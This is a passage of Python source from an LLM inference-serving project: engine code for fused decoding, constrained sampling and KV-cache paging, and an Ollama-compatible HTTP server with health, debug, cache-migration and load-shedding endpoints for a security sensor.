        self._check_epoch(epoch0, "spec_commit")
        self.cache = cache

    def spec_rollback(self, seq_id: int, keep_len: int) -> None:
        """Shrink a sequence back to ``keep_len`` tokens.  v2 verify
        never lands speculative state, so this is no longer part of the
        spec loop — it remains the generic shrink hook (tests, manual
        recovery).  Freed pages are reusable immediately; device-side
        K/V garbage past keep_len is unreadable (position-strict masks)
        and overwritten before any future read (kvcache.truncate)."""
        self.alloc.truncate(seq_id, keep_len)
        self._seq_pos[seq_id] = keep_len

    def seq_len(self, seq_id: int) -> int:
        return self._seq_pos.get(seq_id, 0)

    # ---- fused decode (slot-contiguous pools only) --------------------
    def set_stop_ids(self, ids) -> None:
        self._stop_ids = jnp.asarray(sorted(ids), jnp.int32)

    def set_dfa(self, tables: Optional[dict]) -> None:
        """Install device JSON-DFA tables (core.json_dfa.build_token_dfa
        output).  State 0 is the unconstrained sentinel, so constrained
        and free slots share one decode graph."""
        if tables is None:
            self._dfa_tables = None
            return
        if tables["mask_rows"].shape[1] != self.mcfg.vocab_size:
            raise ValueError(
                f"DFA mask width {tables['mask_rows'].shape[1]} != model "
                f"vocab {self.mcfg.vocab_size} — pass model_vocab_size to "
                "build_token_dfa"
            )
        self._dfa_tables = {
            k: jnp.asarray(tables[k])
            for k in ("byte_next", "mask_rows", "row_of", "complete",
                      "tok_bytes", "tok_len")
        }
        self._dfa_initial = int(tables["initial"])
        if self._warmup_thread is not None:
            # staged warmup already launched (possibly finished) without
            # these tables: background-compile the DFA variant NOW, so
            # the first constrained fused round is a cache hit instead
            # of a multi-hour inline compile (ADVICE.md r5 #2).  The
            # started-set in _compile_variant dedups against a warmup
            # thread that raced us to the True variant.
            threading.Thread(
                target=self._compile_variant, args=(True,),
                daemon=True, name="chronos-dfa-warmup",
            ).start()

    @property
    def has_dfa(self) -> bool:
        return self._dfa_tables is not None

    @property
    def dfa_initial(self) -> int:
        return self._dfa_initial if self._dfa_tables is not None else 0

    def decode_fused(
        self,
        tokens_by_slot: Dict[int, int],
        samp_by_slot: Dict[int, tuple],   # slot -> (temperature, top_p, seed, budget_left)
        dfa_state_by_slot: Optional[Dict[int, int]] = None,
    ):
        """Up to ``decode_chunk`` decode steps in one dispatch, sampling
        on device.  Returns ``(out_by_slot, done_by_slot, dfa_state_by_slot)``
        where ``out_by_slot[slot]`` holds only that slot's VALID sampled
        ids (its pending token's successors, ending at its stop token if
        it stopped).  Sequence positions/pages advance by exactly the fed
        count per slot."""
        epoch0 = self.epoch
        use_dfa = dfa_state_by_slot is not None
        if use_dfa and self._dfa_tables is None:
            raise RuntimeError("decode_fused: DFA requested but not installed")
        # fed token count is only known post-dispatch; the throughput
        # window gets it via note_tokens below
        samp = PROFILER.begin("decode")
        tokens = np.zeros(self.B, np.int32)
        positions = self._all_slot_positions()
        active = np.zeros(self.B, bool)
        temp = np.zeros(self.B, np.float32)
        top_p = np.ones(self.B, np.float32)
        seeds = np.zeros(self.B, np.int32)
        max_lengths = np.zeros(self.B, np.int32)
        dfa_state = np.zeros(self.B, np.int32)
        pos0 = {}
        for slot, tok in tokens_by_slot.items():
            seq_id = self.slots[slot]
            assert seq_id is not None
            pos = self._seq_pos[seq_id]
            t, p, s, budget = samp_by_slot[slot]
            tokens[slot] = tok
            positions[slot] = pos
            active[slot] = True
            temp[slot] = t
            top_p[slot] = p
            seeds[slot] = s
            max_lengths[slot] = min(self.ccfg.max_context, pos + max(1, budget))
            if use_dfa:
                dfa_state[slot] = dfa_state_by_slot.get(slot, 0)
            pos0[slot] = pos

        try:
            with METRICS.time("decode_step_s"):
                if samp is not None:
                    samp.mark_host()
                tc0 = time.monotonic()
                out, fed_counts, done, cache, dfa_out = self._decode_fused(
                    self.params, self.cache,
                    jnp.asarray(tokens), jnp.asarray(positions), jnp.asarray(active),
                    jnp.asarray(temp), jnp.asarray(top_p), jnp.asarray(seeds),
                    self._stop_ids, jnp.asarray(max_lengths), use_dfa,
                    self._dfa_tables if use_dfa else None,
                    jnp.asarray(dfa_state),
                )
                COMPILES.observe(
                    "decode_fused", use_dfa, time.monotonic() - tc0
                )
            if samp is not None:
                samp.fence((out, fed_counts, done, cache, dfa_out))
        except Exception as e:
            raise EnginePoisoned(
                f"fused decode dispatch failed with the cache donated: "
                f"{type(e).__name__}: {e}"
            ) from e
        self._check_epoch(epoch0, "decode_fused")
        self.cache = cache
        out = np.asarray(out)          # [N, B]
        fed_counts = np.asarray(fed_counts)
        done = np.asarray(done)
        dfa_out = np.asarray(dfa_out)
        # validate EVERY slot's fed count before touching any host state:
        # a partial advance (some slots' positions moved, then a raise)
        # would desync host bookkeeping from what the device wrote.
        # max_lengths clamps to max_context so this can only fire on a
        # device/host contract bug, never on input.
        for slot in tokens_by_slot:
            new_pos = pos0[slot] + int(fed_counts[slot])
            if new_pos > self.ccfg.max_context:
                # RuntimeError, not assert: this guard against desynced
                # host bookkeeping must survive `python -O`
                raise RuntimeError(
                    f"slot {slot} fed past max_context: {new_pos}"
                )
        out_by_slot, done_by_slot, state_by_slot = {}, {}, {}
        total = 0
        for slot in tokens_by_slot:
            fc = int(fed_counts[slot])
            seq_id = self.slots[slot]
            new_pos = pos0[slot] + fc
            self._seq_pos[seq_id] = new_pos
            self.alloc.extend(seq_id, new_pos)
            out_by_slot[slot] = out[:fc, slot]
            done_by_slot[slot] = bool(done[slot])
            state_by_slot[slot] = int(dfa_out[slot])
            total += fc
        METRICS.inc("decode_tokens", total)
        PROFILER.note_tokens("decode", total)
        return out_by_slot, done_by_slot, state_by_slot
