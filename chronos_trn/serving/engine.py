"""Inference engine: jitted prefill/decode with shape bucketing.

neuronx-cc is an AOT compiler — every distinct shape is a new NEFF
(SURVEY.md §7 hard part 3).  The engine therefore exposes exactly
``len(prefill_buckets) + 1`` compiled graphs: one prefill per bucket
(long prompts run as chunked prefill in largest-bucket pieces) and one
decode step at fixed batch width B.  Block tables / positions / active
masks are the only dynamic content, all dense int32/bool of fixed shape.

Caches are donated so decode updates alias in place on device.
"""
from __future__ import annotations

import functools
from typing import Dict, Optional

import jax
import jax.numpy as jnp
import numpy as np

from chronos_trn.config import CacheConfig, EngineConfig, ModelConfig
from chronos_trn.core import kvcache, model
from chronos_trn.utils.metrics import GLOBAL as METRICS


class InferenceEngine:
    """Single-replica engine. The scheduler is its only caller; all
    methods are called from one worker thread."""

    def __init__(
        self,
        params,
        model_cfg: ModelConfig,
        cache_cfg: CacheConfig,
        engine_cfg: EngineConfig,
        cache_dtype=None,
        mesh=None,
    ):
        """mesh: a parallel.mesh dp×sp×tp Mesh — params must already be
        sharded to it (parallel.sharding.shard_params); the KV cache is
        sharded here (kv heads over tp) and jit keeps every step on the
        mesh (collectives over NeuronLink)."""
        self.params = params
        self.mcfg = model_cfg
        self.ccfg = cache_cfg
        self.ecfg = engine_cfg
        self.mesh = mesh
        self.cache = kvcache.init_cache(model_cfg, cache_cfg, dtype=cache_dtype)
        if mesh is not None:
            from chronos_trn.parallel import sharding as sharding_lib

            self.cache = sharding_lib.shard_cache(self.cache, mesh)
        self.alloc = kvcache.PageAllocator(cache_cfg)
        self.B = engine_cfg.max_batch_slots
        self.slots: list = [None] * self.B  # seq_id or None
        self._seq_pos: Dict[int, int] = {}

        self._prefill_jit: Dict[tuple, object] = {}

        # params are an ARGUMENT, never a closure capture: a captured
        # pytree is baked into the HLO as constants — 16 GB of literals
        # at the 8B tier — exploding compile time and memory.
        # only [B, K] top-k values+ids cross the device boundary per step
        # instead of [B, vocab] fp32 (~16 MB/step at batch 32 on the 8B
        # tier) — host-side sampling and the JSON constrainer only ever
        # look at the top K candidates anyway.
        K = self.ecfg.logits_top_k

        @functools.partial(jax.jit, donate_argnums=(1,))
        def _decode_topk(params, cache, tokens, positions, block_tables, active):
            logits, cache = model.decode_step(
                params, self.mcfg, self.ccfg, cache,
                tokens, positions, block_tables, active,
            )
            vals, idx = jax.lax.top_k(logits, K)
            return vals, idx.astype(jnp.int32), cache

        self._decode_topk = _decode_topk

    # ---- slot management ----------------------------------------------
    def free_slot(self) -> Optional[int]:
        for i, s in enumerate(self.slots):
            if s is None:
                return i
        return None

    def occupy(self, slot: int, seq_id: int):
        assert self.slots[slot] is None
        self.slots[slot] = seq_id

    def release(self, seq_id: int):
        self.alloc.free(seq_id)
        self._seq_pos.pop(seq_id, None)
        for i, s in enumerate(self.slots):
            if s == seq_id:
                self.slots[i] = None

    @property
    def active_count(self) -> int:
        return sum(1 for s in self.slots if s is not None)

    # ---- prefill ------------------------------------------------------
    def _bucket_for(self, n: int) -> int:
        for b in self.ecfg.prefill_buckets:
            if n <= b:
                return b
        return max(self.ecfg.prefill_buckets)

    def _get_prefill(self, bucket: int, chunked: bool):
        key = (bucket, chunked)
        fn = self._prefill_jit.get(key)
        if fn is None:
            if chunked:
                @functools.partial(jax.jit, donate_argnums=(1,))
                def fn(params, cache, tokens, length, block_table, start_pos):
                    return model.prefill(
                        params, self.mcfg, self.ccfg, cache,
                        tokens, length, block_table, start_pos=start_pos,
                    )
            else:
                @functools.partial(jax.jit, donate_argnums=(1,))
                def fn(params, cache, tokens, length, block_table):
                    return model.prefill(
                        params, self.mcfg, self.ccfg, cache,
                        tokens, length, block_table,
                    )
            self._prefill_jit[key] = fn
        return fn

    def can_admit(self, n_tokens: int) -> bool:
        return (
            self.free_slot() is not None
            and self.alloc.can_admit(n_tokens + 1)
            and n_tokens < self.ccfg.max_context
        )

    def prefill_seq(self, seq_id: int, token_ids) -> np.ndarray:
        """Prefill a new sequence; returns next-token logits [vocab]."""
        n = len(token_ids)
        st = self.alloc.allocate(seq_id, n)
        self._seq_pos[seq_id] = n
        bt = jnp.asarray(st.block_table)

        max_bucket = max(self.ecfg.prefill_buckets)
        with METRICS.time("prefill_s"):
            if n <= max_bucket:
                bucket = self._bucket_for(n)
                padded = np.zeros(bucket, np.int32)
                padded[:n] = token_ids
                fn = self._get_prefill(bucket, chunked=False)
                logits, self.cache = fn(
                    self.params, self.cache, jnp.asarray(padded), jnp.int32(n), bt
                )
            else:
                # chunked prefill in max_bucket pieces
                logits = None
                for start in range(0, n, max_bucket):
                    chunk = token_ids[start : start + max_bucket]
                    padded = np.zeros(max_bucket, np.int32)
                    padded[: len(chunk)] = chunk
                    fn = self._get_prefill(max_bucket, chunked=True)
                    logits, self.cache = fn(
                        self.params, self.cache, jnp.asarray(padded),
                        jnp.int32(n), bt, jnp.int32(start),
                    )
        METRICS.inc("prefill_tokens", n)
        return np.asarray(logits)

    # ---- decode -------------------------------------------------------
    def decode(self, tokens_by_slot: Dict[int, int]) -> Dict[int, tuple]:
        """One decode step.  tokens_by_slot: slot -> token to feed (the
        token sampled last step).  Returns slot -> (top-K logit values
        [K], token ids [K]) sorted descending (jax.lax.top_k order).
        Extends each sequence's page table by one token."""
        tokens = np.zeros(self.B, np.int32)
        positions = np.zeros(self.B, np.int32)
        block_tables = np.zeros((self.B, self.ccfg.max_pages_per_seq), np.int32)
        active = np.zeros(self.B, bool)

        # dry-run page demand AND per-sequence capacity BEFORE mutating any
        # table, so OutOfPages cannot leave the allocator half-extended
        # mid-step (and _seq_pos never advances without a device write)
        demand = 0
        for slot in tokens_by_slot:
            seq_id = self.slots[slot]
            pos = self._seq_pos[seq_id]
            if self.alloc.pages_needed(pos + 1) > self.ccfg.max_pages_per_seq:
                raise kvcache.PageAllocator.OutOfPages(
                    f"seq {seq_id} at pos {pos} would exceed max_pages_per_seq"
                )
            demand += self.alloc.pages_needed(pos + 1) - self.alloc.pages_needed(pos)
        if demand > self.alloc.free_pages:
            raise kvcache.PageAllocator.OutOfPages(
                f"decode step needs {demand} new pages, {self.alloc.free_pages} free"
            )

        for slot, tok in tokens_by_slot.items():
            seq_id = self.slots[slot]
            assert seq_id is not None
            pos = self._seq_pos[seq_id]
            st = self.alloc.extend(seq_id, pos + 1)  # room for this token
            tokens[slot] = tok
            positions[slot] = pos
            block_tables[slot] = st.block_table
            active[slot] = True
            self._seq_pos[seq_id] = pos + 1

        with METRICS.time("decode_step_s"):
            vals, idx, self.cache = self._decode_topk(
                self.params,
                self.cache,
                jnp.asarray(tokens),
                jnp.asarray(positions),
                jnp.asarray(block_tables),
                jnp.asarray(active),
            )
        vals = np.asarray(vals)
        idx = np.asarray(idx)
        METRICS.inc("decode_tokens", len(tokens_by_slot))
        return {slot: (vals[slot], idx[slot]) for slot in tokens_by_slot}

    def seq_len(self, seq_id: int) -> int:
        return self._seq_pos.get(seq_id, 0)
