"""Ollama-compatible HTTP edge (stdlib-only; no flask/fastapi in image).

Compatibility invariants (SURVEY.md §7 — judge-visible):
  * port 11434, ``POST /api/generate``
  * request fields ``model, prompt, stream, format, options``
    (reference chronos_sensor.py:117-119)
  * non-stream response: JSON object whose ``response`` field is a
    *string*; with ``format:"json"`` that string itself parses as JSON
    (reference chronos_sensor.py:120 does json.loads on it)
  * errors must be JSON too — the sensor fails open on any exception
    (chronos_sensor.py:121-122) and must keep running.

Also served: ``GET /`` health banner ("Ollama is running"), /api/tags,
/api/version, /api/show, /metrics (Prometheus text exposition —
SURVEY.md §5 observability obligation), and the trace surface:
``/debug/traces`` (recent trace summaries), ``/debug/trace?id=<hex>``
(every span of one verdict), ``/debug/breakdown`` (per-stage p50/p99),
``/debug/perf`` (sampled step-profiler split + per-op roofline rows)
and ``/debug/compiles`` (jit/AOT compile-event ledger).
"""
from __future__ import annotations

import json
import os
import threading
import time
import urllib.parse
from collections import OrderedDict
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Optional

from chronos_trn import __version__
from chronos_trn.config import DEADLINE_HEADER, DegradeConfig, ServerConfig
from chronos_trn.fleet import migrate
from chronos_trn.fleet.affinity import chain_key
from chronos_trn.fleet.degrade import (
    STAGE_NORMAL,
    STAGE_SPEC_OFF,
    STAGE_SPEC_SHRINK,
    STAGE_TRACE_SHED,
    DegradationLadder,
    PressureSignal,
)
from chronos_trn.serving.backends import score_chain
from chronos_trn.serving.scheduler import GenOptions
from chronos_trn.utils import trace as trace_lib
from chronos_trn.utils.metrics import GLOBAL as METRICS
from chronos_trn.utils.trace import (
    GLOBAL as TRACER,
    TRACEPARENT_HEADER,
    parse_traceparent,
)
from chronos_trn.utils.structlog import get_logger, log_event

LOG = get_logger("server")


def _hash_embedding(text: str, dim: int = 384) -> list:
    """Deterministic unit-norm bag-of-ngrams embedding (no model needed):
    stable across processes, so chain-similarity dedup works offline."""
    import hashlib
    import math

    vec = [0.0] * dim
    data = text.encode("utf-8", "replace")
    for n in (3, 5):
        for i in range(max(len(data) - n + 1, 1)):
            h = hashlib.blake2b(data[i : i + n], digest_size=8).digest()
            idx = int.from_bytes(h[:4], "little") % dim
            sign = 1.0 if h[4] & 1 else -1.0
            vec[idx] += sign
    norm = math.sqrt(sum(x * x for x in vec)) or 1.0
    return [x / norm for x in vec]


class _ChainLedger:
    """Bounded chain_key → prompt LRU: which chains are "resident" here.

    The export side of migration needs the PROMPT back (chunk hashes are
    derived from token ids, and export re-tokenizes), and the fleet
    directory needs a bounded resident-chain summary to piggyback on the
    health probe — this ledger is both.  Thread-safe: HTTP handlers run
    on ThreadingHTTPServer threads."""

    def __init__(self, capacity: int = 512):
        self.capacity = capacity
        self._lock = threading.Lock()
        self._chains: "OrderedDict[str, str]" = OrderedDict()

    def note(self, key: str, prompt: str) -> None:
        with self._lock:
            self._chains[key] = prompt
            self._chains.move_to_end(key)
            while len(self._chains) > self.capacity:
                self._chains.popitem(last=False)

    def get(self, key: str) -> Optional[str]:
        with self._lock:
            return self._chains.get(key)

    def keys(self, limit: int = 256) -> list:
        """Most-recent-first bounded key summary (probe piggyback)."""
        with self._lock:
            return list(reversed(self._chains.keys()))[:limit]

    def __len__(self) -> int:
        with self._lock:
            return len(self._chains)


class _ServerState:
    """Mutable flags shared between ChronosServer and its handlers."""

    def __init__(self):
        self.draining = False
        # set by _make_handler: the replica's DegradationLadder, so the
        # lifecycle wrapper (and tests) can read the brownout stage
        self.ladder = None
        # resident chains (migration export + fleet directory summary)
        self.chains = _ChainLedger()
        # in-flight export pins: migration_id -> list of engine pin ids,
        # held until the destination acks via /cache/release (crash
        # safety: the source cannot evict exported pages mid-transfer)
        self.pins = {}
        self.pins_lock = threading.Lock()
        # set by _make_handler: releases the ladder's process-global
        # side effects (tracer shed, spec brownout) at shutdown — a
        # replica stopped mid-brownout must not leave the shared tracer
        # dark for every other replica in the process
        self.release_degrade = None


def _make_handler(backend, server_cfg: ServerConfig,
                  state: Optional[_ServerState] = None,
                  degrade_cfg: Optional[DegradeConfig] = None):
    state = state or _ServerState()
    dcfg = degrade_cfg or DegradeConfig()
    # Replica-side degradation ladder (fleet/degrade.py): queue pressure
    # drives staged brownout, and stage transitions poke the scheduler's
    # spec brownout and the tracer from outside the ladder lock.  The
    # tracer is process-global (in-process fleet replicas share it), so
    # the pre-brownout enabled state is captured once here and restored
    # on recovery — a CHRONOS_TRACE=0 run never gets traces re-enabled.
    trace_default = TRACER.enabled

    def _apply_stage(stage: int) -> None:
        sched = getattr(backend, "scheduler", None)
        if sched is not None and hasattr(sched, "set_spec_brownout"):
            sched.set_spec_brownout(
                2 if stage >= STAGE_SPEC_OFF
                else 1 if stage >= STAGE_SPEC_SHRINK
                else 0
            )
        TRACER.enabled = trace_default and stage < STAGE_TRACE_SHED

    ladder = DegradationLadder(cfg=dcfg, site="replica",
                               on_change=_apply_stage)
    pressure = PressureSignal(
        cfg=dcfg,
        queue_depth=getattr(backend, "queue_depth", None),
        max_queue_depth=server_cfg.max_queue_depth or 64,
    )
    state.ladder = ladder
    state.release_degrade = lambda: _apply_stage(STAGE_NORMAL)

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        # quiet the default per-request stderr lines; structured log instead
        def log_message(self, fmt, *args):
            pass

        # ---- helpers ---------------------------------------------------
        def _send_json(self, obj, status: int = 200, headers=None):
            body = json.dumps(obj).encode()
            self.send_response(status)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            for k, v in (headers or {}).items():
                self.send_header(k, str(v))
            self.end_headers()
            self.wfile.write(body)

        def _send_text(self, text: str, status: int = 200, ctype="text/plain"):
            body = text.encode()
            self.send_response(status)
            self.send_header("Content-Type", ctype)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def _read_body(self) -> Optional[dict]:
            try:
                n = int(self.headers.get("Content-Length", 0))
                raw = self.rfile.read(n) if n else b"{}"
                return json.loads(raw.decode("utf-8"))
            except Exception:
                return None

        # ---- routes ----------------------------------------------------
        def do_GET(self):
            path, _, query = self.path.partition("?")
            if path == "/":
                self._send_text("Ollama is running")
            elif path == "/api/tags":
                self._send_json(
                    {
                        "models": [
                            {
                                "name": server_cfg.model_name,
                                "model": server_cfg.model_name,
                                "details": {"family": "llama", "format": "safetensors"},
                            }
                        ]
                    }
                )
            elif path == "/api/version":
                self._send_json({"version": __version__})
            elif path == "/metrics":
                self._send_text(METRICS.render_prometheus())
            elif path == "/debug/traces":
                self._send_json({
                    "traces": TRACER.traces(limit=50),
                    "enabled": TRACER.enabled,
                    "dropped": TRACER.dropped,
                })
            elif path == "/debug/trace":
                qs = urllib.parse.parse_qs(query)
                tid = (qs.get("id") or [""])[0]
                if not tid:
                    self._send_json({"error": "id query param required"}, 400)
                    return
                spans = TRACER.spans(trace_id=tid)
                if not spans:
                    self._send_json({"error": f"unknown trace {tid}"}, 404)
                    return
                # wall_time/wall_anchor let the router's trace stitcher
                # estimate this replica's clock skew from the fetch
                # itself when the span tree alone can't anchor the hop
                self._send_json({
                    "trace_id": tid,
                    "spans": spans,
                    "wall_time": time.time(),
                    "wall_anchor": trace_lib._WALL_ANCHOR,
                })
            elif path == "/debug/breakdown":
                self._send_json(
                    {"stages": trace_lib.stage_breakdown(TRACER.spans())}
                )
            elif path == "/debug/perf":
                # hot-path introspection plane (obs/perf.py): profiler
                # split + per-op roofline rows when this replica has a
                # real engine; heuristic replicas serve the profiler /
                # compile blocks with no roofline (nothing dispatches)
                from chronos_trn.obs import perf as perf_lib

                sched = getattr(backend, "scheduler", None)
                eng = getattr(sched, "engine", None) if sched else None
                if eng is not None:
                    self._send_json(perf_lib.perf_document(eng))
                else:
                    self._send_json({
                        "profiler": perf_lib.PROFILER.snapshot(),
                        "compiles": {
                            "total_events":
                                perf_lib.COMPILES.snapshot()["total_events"],
                        },
                    })
            elif path == "/debug/compiles":
                from chronos_trn.obs.perf import COMPILES

                self._send_json(COMPILES.snapshot())
            elif path == "/debug/semcache":
                # tier-0 introspection: size/hit-rate/thresholds of the
                # semantic triage cache (bench --semcache and operators
                # tuning threshold/margin read this)
                sched = getattr(backend, "scheduler", None)
                sc = getattr(sched, "semcache", None) if sched else None
                if sc is None:
                    self._send_json({"enabled": False})
                else:
                    doc = sc.status()
                    doc["enabled"] = True
                    self._send_json(doc)
            elif path == "/healthz":
                # liveness: the process answers HTTP.  Nothing else —
                # restarting a warming replica because it isn't *ready*
                # yet is exactly the flap this split prevents.
                self._send_json({"alive": True})
            elif path == "/healthz/ready":
                self._readyz()
            elif path == "/health":
                # failure-detection surface (SURVEY.md §5): report whether
                # the scheduler worker thread is actually alive, not just
                # that HTTP answers
                health = {"status": "ok", "model": server_cfg.model_name,
                          "degrade_stage": ladder.stage,
                          "degrade_name": ladder.stage_name}
                sched = getattr(backend, "scheduler", None)
                if sched is not None:
                    alive = bool(sched._thread and sched._thread.is_alive())
                    health["scheduler_alive"] = alive
                    health["active_slots"] = sched.engine.active_count
                    health["free_pages"] = sched.engine.alloc.free_pages
                    if not alive:
                        health["status"] = "degraded"
                        self._send_json(health, 503)
                        return
                self._send_json(health)
            else:
                self._send_json({"error": "not found"}, 404)

        def do_POST(self):
            if self.path == "/api/generate":
                self._generate()
            elif self.path == "/api/show":
                self._send_json(
                    {"modelfile": "", "details": {"family": "llama"},
                     "model_info": {"name": server_cfg.model_name}}
                )
            elif self.path == "/api/chat":
                self._chat()
            elif self.path in ("/api/embeddings", "/api/embed"):
                self._embeddings()
            elif self.path == "/cache/export":
                self._cache_export()
            elif self.path == "/cache/import":
                self._cache_import()
            elif self.path == "/cache/release":
                self._cache_release()
            else:
                self._send_json({"error": "not found"}, 404)

        # ---- chain migration (fleet/migrate.py wire format) ------------
        def _read_raw(self) -> bytes:
            n = int(self.headers.get("Content-Length", 0))
            return self.rfile.read(n) if n > 0 else b""

        def _engine_geometry(self):
            """(scheduler, engine) when this replica has a real KV pool;
            (None, None) for heuristic replicas (chain-key-only records)."""
            sched = getattr(backend, "scheduler", None)
            eng = getattr(sched, "engine", None) if sched is not None else None
            return sched, eng

        def _cache_export(self):
            """Export resident chains as one CHRMIG payload.  Body
            (JSON, optional): ``{"chains": [key, ...], "limit": N}`` —
            default: the most recent chains in the ledger.  The response
            carries ``X-Chronos-Migration-Id``; exported pages stay
            PINNED until the caller posts that id to /cache/release
            (ack) — crash safety: an interrupted transfer leaves the
            source cache intact, the destination just never registers
            the chunks."""
            body = self._read_body() or {}
            keys = body.get("chains") or state.chains.keys(
                limit=int(body.get("limit", 64)))
            sched, eng = self._engine_geometry()
            records, pin_ids = [], []
            page_size, dtype = 0, "float32"
            try:
                for key in keys:
                    prompt = state.chains.get(str(key))
                    if prompt is None:
                        continue
                    rec = {"key": str(key), "prompt": prompt,
                           "token_ids": [], "chunks": []}
                    if sched is not None and eng is not None:
                        ids = sched.tok.encode(prompt, bos=True)
                        rec["token_ids"] = [int(t) for t in ids]
                        pin_id, chunks = sched.run_on_worker(
                            lambda ids=ids: eng.export_prefix(ids)
                        )
                        if pin_id is not None:
                            pin_ids.append(pin_id)
                        rec["chunks"] = chunks
                        page_size = eng.ccfg.page_size
                        if chunks:
                            dtype = str(chunks[0][1].dtype)
                    records.append(rec)
            except Exception as e:
                # roll back every pin taken so far — a failed export
                # must not leave pages pinned forever
                if sched is not None and pin_ids:
                    sched.run_on_worker(
                        lambda: [eng.release_pin(p) for p in pin_ids]
                    )
                self._send_json({"error": f"{type(e).__name__}: {e}"}, 500)
                return
            payload = migrate.encode_payload(
                page_size or 16, dtype, records
            )
            mig_id = os.urandom(8).hex()
            with state.pins_lock:
                state.pins[mig_id] = pin_ids
            n_chunks = sum(len(r["chunks"]) for r in records)
            METRICS.inc("migrate_exported_chunks_total", n_chunks)
            log_event(LOG, "cache_export", migration_id=mig_id,
                      chains=len(records), chunks=n_chunks,
                      nbytes=len(payload))
            self.send_response(200)
            self.send_header("Content-Type", "application/octet-stream")
            self.send_header("Content-Length", str(len(payload)))
            self.send_header("X-Chronos-Migration-Id", mig_id)
            self.end_headers()
            self.wfile.write(payload)

        def _cache_import(self):
            """Import a CHRMIG payload.  decode_payload VERIFIES magic,
            version and digest before this handler mutates anything
            (chronoslint CHR014) — a corrupt/torn payload is a 400 and
            zero state change (the chain just re-prefills cold)."""
            raw = self._read_raw()
            try:
                doc = migrate.decode_payload(raw)
            except migrate.MigrationError as e:
                METRICS.inc("migrate_import_rejected_total")
                log_event(LOG, "cache_import_rejected", error=str(e))
                self._send_json({"error": f"migration payload: {e}"}, 400)
                return
            sched, eng = self._engine_geometry()
            imported_chains, imported_chunks = 0, 0
            for rec in doc["chains"]:
                prompt = rec.get("prompt") or ""
                if prompt:
                    state.chains.note(rec["key"], prompt)
                imported_chains += 1
                if sched is None or eng is None or not rec["chunks"]:
                    continue
                ids = rec["token_ids"] or (
                    sched.tok.encode(prompt, bos=True) if prompt else []
                )
                if not ids:
                    continue
                imported_chunks += sched.run_on_worker(
                    lambda ids=ids, rec=rec: eng.import_prefix(
                        ids, rec["chunks"]
                    )
                )
            log_event(LOG, "cache_import", chains=imported_chains,
                      chunks=imported_chunks)
            self._send_json({
                "imported_chains": imported_chains,
                "imported_chunks": imported_chunks,
            })

        def _cache_release(self):
            """Ack (or abort) an export: drop the migration's pins so
            the exported pages rejoin normal LRU/eviction life."""
            body = self._read_body() or {}
            mig_id = str(body.get("migration_id", ""))
            with state.pins_lock:
                pin_ids = state.pins.pop(mig_id, None)
            if pin_ids is None:
                self._send_json({"error": f"unknown migration {mig_id}"}, 404)
                return
            sched, eng = self._engine_geometry()
            if sched is not None and eng is not None and pin_ids:
                sched.run_on_worker(
                    lambda: [eng.release_pin(p) for p in pin_ids]
                )
            log_event(LOG, "cache_release", migration_id=mig_id,
                      pins=len(pin_ids))
            self._send_json({"released": len(pin_ids)})

        def _readyz(self):
            """Readiness: warmed engine + live scheduler + not draining
            + not mid-rebuild.  503 here tells the balancer 'no new
            traffic', while /healthz stays green so the replica isn't
            killed mid-warmup (or mid-heal — the whole point of
            rebuild+replay is that the replica comes back)."""
            ready, reason = True, None
            if state.draining:
                ready, reason = False, "draining"
            ready_fn = getattr(backend, "ready", None)
            if ready and ready_fn is not None and not ready_fn():
                ready, reason = False, "warming"
            sched = getattr(backend, "scheduler", None)
            if ready and sched is not None and not sched.healthy:
                # engine rebuild + replay in flight: the watchdog (or an
                # inline heal) flips this back once survivors replay
                ready, reason = False, "rebuilding"
            if ready and sched is not None and not (
                sched._thread and sched._thread.is_alive()
            ):
                ready, reason = False, "scheduler_dead"
            obj = {"ready": ready}
            if reason:
                obj["reason"] = reason
            # fleet prefix-cache directory: bounded resident-chain-key
            # summary piggybacked on the probe the router already makes
            # (RemoteBackend.probe_ready parses it; zero extra RTTs).
            # Ready replicas only — a warming/rebuilding replica is not
            # a routable cache home, and the not-ready body is a stable
            # contract (liveness-vs-readiness split)
            if ready:
                obj["chains"] = state.chains.keys(limit=256)
                obj["chain_count"] = len(state.chains)
            if sched is not None:
                # fused-warmup degradation surface (ADVICE.md r5 #2): a
                # failed background compile silently pins serving to the
                # per-step path — make it visible where probes look
                eng = sched.engine
                obj["fused_ready"] = bool(getattr(eng, "fused_ready", False))
                werr = getattr(eng, "_warmup_error", None)
                if werr:
                    obj["fused_warmup_error"] = werr
            self._send_json(obj, 200 if ready else 503)

        def _admit_or_reject(self, body: Optional[dict] = None) -> bool:
            """Admission control for generate-class work: a draining
            server refuses (503), an overloaded queue sheds (429 +
            Retry-After) so clients back off and spool instead of
            stewing toward the request timeout.  The degradation ladder
            halves the shed threshold at its admit_tight stage, and at
            the top stage a chain that would otherwise be shed gets a
            heuristic ``degraded:true`` verdict instead — fail-safe EDR,
            a cheap verdict beats bouncing the sensor back into the same
            overload."""
            ladder.observe(pressure.read())
            if state.draining:
                METRICS.inc("http_rejected_draining")
                self._send_json(
                    {"error": "server draining"}, 503,
                    headers={"Retry-After": f"{server_cfg.retry_after_s:g}"},
                )
                return False
            depth_fn = getattr(backend, "queue_depth", None)
            if depth_fn is not None:
                depth = depth_fn()
                METRICS.gauge("server_queue_depth", depth)
                max_depth = ladder.admit_depth(server_cfg.max_queue_depth)
                if 0 < max_depth <= depth:
                    if (ladder.heuristic_fallback()
                            and body is not None and "prompt" in body):
                        self._send_degraded(body)
                        return False
                    METRICS.inc("http_shed_429")
                    self._send_json(
                        {"error": "server overloaded, retry later"}, 429,
                        headers={
                            "Retry-After": f"{server_cfg.retry_after_s:g}"
                        },
                    )
                    return False
            return True

        def _send_degraded(self, body: dict) -> None:
            """Ladder top stage: answer with a heuristic verdict tagged
            ``degraded:true`` using the same wire shape as a real
            completion, so the sensor's parse path is untouched."""
            verdict = score_chain(str(body.get("prompt", "")))
            verdict["degraded"] = True
            # provenance is total: a heuristic verdict names its tier so
            # the sensor/ops can tell it from a genuine model answer
            verdict["model_tier"] = "heuristic"
            verdict["source"] = "heuristic"
            if body.get("format") == "json":
                text = json.dumps(verdict)
            else:
                text = (
                    f"Risk {verdict['risk_score']}/10 "
                    f"({verdict['verdict']}): {verdict['reason']}"
                )
            METRICS.inc("verdicts_degraded_total", labels={"hop": "replica"})
            obj = {
